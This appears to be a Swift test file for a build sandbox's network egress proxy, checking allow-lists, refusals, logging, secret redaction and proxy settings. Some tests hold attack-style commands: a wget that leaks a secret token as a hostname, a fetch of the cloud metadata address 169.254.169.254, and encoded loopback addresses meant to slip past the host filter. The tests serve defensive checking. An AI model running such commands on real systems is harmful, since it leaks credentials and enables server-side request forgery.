import BuildModel
import Documents
import Platform
import Sandbox
import TestSupport
import Testing

@Suite("What a step reaches")
struct EgressTests {
    private static func server() throws -> SocketServer {
        try SocketServer { request in request.respond(200, body: "answer to \(request.target)") }
    }

    /// A command that sends what another one prints to the proxy, and keeps that way open until the answer has some words.
    private static func untilAnswered(_ request: String, _ words: String) -> String {
        let wait = "n=0; while [ $n -lt 600 ] && ! grep -q '\(words)' /tmp/answer; do sleep 0.1; n=$((n+1)); done"
        return ": >/tmp/answer; (\(request); \(wait)) | nc 127.0.0.1 3128 | busybox tee /tmp/answer"
    }

    @Test("without egress there is a loopback interface of its own, and nothing on it")
    func none() async throws {
        let server = try Self.server()
        let sandbox = try TestSandbox { $0.allowedHosts = ["127.0.0.1:\(server.port)"] }
        _ = try await sandbox.run(
            "wget -O- \(server.url("/")) 2>&1 || echo failed; env | grep -i proxy; ip -o link | wc -l"
        )
        #expect(sandbox.log.texts.contains("step: failed"))
        #expect(sandbox.log.texts.last == "step: 1")
        #expect(server.requests == [])
    }

    @Test("an address that the operator allows is reached through the proxy, and counted")
    func allowed() async throws {
        let server = try Self.server()
        let sandbox = try TestSandbox { $0.allowedHosts = ["127.0.0.1:\(server.port)"] }
        let outcome = try await sandbox.run("wget -q -O- \(server.url("/a?b=c"))") { $0.network = .egress([]) }
        #expect(sandbox.log.texts.first == "step: answer to /a?b=c")
        #expect(server.requests == ["GET /a?b=c"])
        #expect(outcome.egress.allowed == 1)
        #expect(outcome.egress.refused == 0)
        #expect(outcome.egress.bytesIn > 20)
        #expect(sandbox.log.texts.last?.hasPrefix("step: network: 127.0.0.1:\(server.port), 1 connection, ") == true)
    }

    @Test("a tunnel carries bytes both ways")
    func tunnel() async throws {
        let server = try Self.server()
        let sandbox = try TestSandbox { $0.allowedHosts = ["127.0.0.1:\(server.port)"] }
        let request =
            #"printf 'CONNECT 127.0.0.1:\#(server.port) HTTP/1.1\r\n\r\nGET /t HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n'"#
        _ = try await sandbox.run(Self.untilAnswered(request, "answer to")) { $0.network = .egress([]) }
        #expect(sandbox.log.texts.contains { $0.contains("200 Connection established") })
        #expect(sandbox.log.texts.contains { $0.contains("answer to /t") })
    }

    @Test("a port or host that nobody allows is refused, said and logged")
    func refused() async throws {
        let server = try Self.server()
        let sandbox = try TestSandbox { $0.allowedHosts = ["127.0.0.1:1"] }
        let failure = try await #require(throws: BuildFailure.self) {
            _ = try await sandbox.run("wget -O- \(server.url("/")) 2>&1") {
                $0.network = .egress(["files.example.org:443"])
            }
        }
        #expect(sandbox.log.texts.contains { $0.contains("403 Forbidden") })
        let line = "step: refused a connection to 127.0.0.1:\(server.port): neither the step's plan nor "
        #expect(sandbox.log.texts.contains("\(line)steps.hosts names it"))
        #expect(failure.message.contains("It may not reach 127.0.0.1:\(server.port)"), "\(failure)")
        #expect(server.requests == [])
    }

    @Test("whatever a step asks for is told: the first destinations by name, the others by number, and no secret")
    func told() async throws {
        let server = try Self.server()
        let sandbox = try TestSandbox { $0.allowedHosts = ["127.0.0.1:\(server.port)"] }
        var step = try sandbox.step(
            """
            for n in $(seq 205) 203 204 1 1; do
                wget -q -O- http://h$n.example.org/ 2>/dev/null
            done
            wget -q -O- http://$TOKEN.example.org/ 2>/dev/null; exit 3
            """
        )
        step.step.network = .egress([])
        step.secrets = ["TOKEN": Redacted("HiddenValue")]
        let failure = try await #require(throws: BuildFailure.self) {
            _ = try await sandbox.runner.run(step, log: sandbox.log)
        }
        let texts = sandbox.log.texts
        #expect(texts.filter { $0.hasPrefix("step: refused a connection to h") }.count == 200)
        #expect(texts.contains("step: network: h1.example.org:80, 3 connections refused"), "\(texts.suffix(5))")
        #expect(texts.contains("step: network: 6 more destinations, 8 connections refused"), "\(texts.suffix(5))")
        #expect(!(texts + [failure.message]).contains { $0.lowercased().contains("hiddenvalue") })
    }

    @Test("a secret that is asked for as a host is not shown by its refusal")
    func secretHost() async throws {
        let sandbox = try TestSandbox()
        var step = try sandbox.step(
            "wget -q -O- http://$TOKEN.example.org/ 2>/dev/null; exit 3"
        )
        step.step.network = .egress([])
        step.secrets = ["TOKEN": Redacted("HiddenValue")]
        let failure = try await #require(throws: BuildFailure.self) {
            _ = try await sandbox.runner.run(step, log: sandbox.log)
        }
        #expect(failure.message.contains("It may not reach ***.example.org:80"), "\(failure)")
        #expect(sandbox.log.texts.contains { $0.hasPrefix("step: refused a connection to ***.example.org:80: ") })
        #expect(!sandbox.log.texts.contains { $0.lowercased().contains("hiddenvalue") })
    }

    @Test(
        "a plan cannot open the node or its network: what names resolve to is looked at",
        arguments: ["localhost", "127.0.0.1", "2130706433", "0x7f.1", "[::1]", "[::ffff:127.0.0.1]"]
    )
    func resolved(_ host: String) async throws {
        let server = try Self.server()
        let sandbox = try TestSandbox()
        await #expect(throws: BuildFailure.self) {
            _ = try await sandbox.run("wget -O- http://\(host):\(server.port)/ 2>&1") {
                $0.network = .egress(["\(host):\(server.port)", "*:\(server.port)"])
            }
        }
        #expect(server.requests == [])
        #expect(
            sandbox.log.texts.contains {
                $0.contains("refused a connection") && $0.contains("is this node's own, and steps.hosts does not")
            }
        )
    }

    @Test("names may lead to private addresses where the operator says so and names them; what a plan names may not")
    func allowedPrivate() async throws {
        let server = try Self.server()
        for allowed in ["localhost:\(server.port)", "*:\(server.port)", "other.example.org:\(server.port)"] {
            let sandbox = try TestSandbox {
                $0.allowsPrivate = true
                $0.allowedHosts = [allowed]
            }
            let result = try? await sandbox.run("wget -q -O- http://localhost:\(server.port)/") {
                $0.network = .egress(["localhost:\(server.port)"])
            }
            #expect((result != nil) == allowed.hasPrefix("localhost"), "\(allowed)")
        }
        #expect(server.requests == ["GET /"])
    }

    @Test(
        "what is no request to a proxy is answered so",
        arguments: ["GET / HTTP/1.1", "CONNECT nowhere HTTP/1.1", "junk", "GET http://a@b/ HTTP/1.1"]
    )
    func malformed(_ line: String) async throws {
        let sandbox = try TestSandbox()
        _ = try await sandbox.run(Self.untilAnswered("printf '\(line)\\r\\n\\r\\n'", "Bad Request")) {
            $0.network = .egress(["*:80"])
        }
        #expect(sandbox.log.texts.contains { $0.contains("400 Bad Request") })
    }

    @Test("package managers are told of the proxy and of the authorities, which cannot be changed")
    func environment() async throws {
        let bundle = try Scratch()
        let file = try bundle.write("-----BEGIN CERTIFICATE-----\n", to: "ca.pem")
        let sandbox = try TestSandbox { $0.authorityFile = file }
        _ = try await sandbox.run("env; cat $PIP_CERT; echo x >>$PIP_CERT || echo unchanged") {
            $0.network = .egress([])
        }
        let lines = Set(sandbox.log.texts)
        for name in ["http_proxy", "HTTPS_PROXY", "npm_config_https_proxy", "CARGO_HTTP_PROXY"] {
            #expect(lines.contains("step: \(name)=http://127.0.0.1:3128"))
        }
        for name in [
            "SSL_CERT_FILE", "PIP_CERT", "NODE_EXTRA_CA_CERTS", "CARGO_HTTP_CAINFO", "COMPOSER_CAFILE",
            "BUNDLE_SSL_CA_CERT",
        ] {
            #expect(lines.contains("step: \(name)=/run/slipway/ca-certificates.crt"))
        }
        #expect(lines.contains("step: -----BEGIN CERTIFICATE-----"))
        #expect(lines.contains("step: unchanged"))
    }

    /// Runs a step in a network namespace of the test's own, whose only addresses are `addresses`, on each of which a server answers with
    /// `page` on port 80.
    private func run(
        _ script: String,
        beside addresses: [String],
        page: String,
        options: [String: JSONValue]
    ) async throws -> CommandResult {
        let sandbox = try TestSandbox { _ in }
        try sandbox.scratch.write(page + "\n", to: "pages/page")
        var step = StepProcess(sandbox: sandbox, command: ["sh", "-c", script])
        step.options = options
        let setup = """
            set -e
            busybox ip link set lo up
            servers=
            for address in $2; do
                busybox ip address add "$address/32" dev lo
                busybox httpd -f -p "$address:80" -h "$1" & servers="$servers $!"
                for try in $(seq 300); do busybox wget -q -O- "http://$address/page" && break; sleep 0.1; done
            done
            shift 2; "$@" || true
            kill $servers
            """
        return try await Command.result(
            ["unshare", "--net", "sh", "-c", setup, "setup", sandbox.scratch("pages")]
                + [addresses.joined(separator: " ")] + step.words
        )
    }

    @Test("a cloud's metadata service is out of reach, directly and through the proxy, whatever is allowed")
    func metadata() async throws {
        let script =
            "wget -O- http://169.254.169.254/page; http_proxy= wget -O- http://169.254.169.254/page; echo tried"
        let result = try await run(
            script,
            beside: ["169.254.169.254"],
            page: "stolen credentials",
            options: ["egress": ["169.254.169.254:80", "*:80"]]
        )
        #expect(
            result.lines.first == "stolen credentials",
            "the stand-in answers in its namespace: \(result.errorText)"
        )
        #expect(result.lines.filter { $0.contains("stolen") }.count == 1, "\(result.text)")
        #expect(result.lines.contains { $0.contains("refused a connection to 169.254.169.254:80") })
        #expect(result.lines.contains("step: tried"))
    }

    @Test("this node's own addresses are out of reach, public ones too, unless the operator names them")
    func own() async throws {
        let addresses = ["8.8.8.8", "198.51.100.7"]
        let script = "for at in 8.8.8.8 198.51.100.7; do wget -q -O- http://$at/page 2>&1; done; echo tried"
        let everywhere = try await run(
            script,
            beside: addresses,
            page: "of this node",
            options: ["egress": ["*:80", "8.8.8.8:80"], "allowed": ["*:80"], "allowsPrivate": true]
        )
        #expect(everywhere.lines.filter { $0.contains("of this node") } == ["of this node", "of this node"])
        #expect(everywhere.lines.contains("step: tried"), "\(everywhere.text)")
        for address in addresses {
            #expect(
                everywhere.lines.contains {
                    $0.contains("refused a connection to \(address):80: its address \(address) is this node's own")
                }
            )
        }
        let named = try await run(
            script,
            beside: addresses,
            page: "of this node",
            options: ["egress": ["*:80"], "allowed": ["8.8.8.8:80"]]
        )
        #expect(named.lines.filter { $0 == "step: of this node" }.count == 1, "\(named.text)")
    }
}
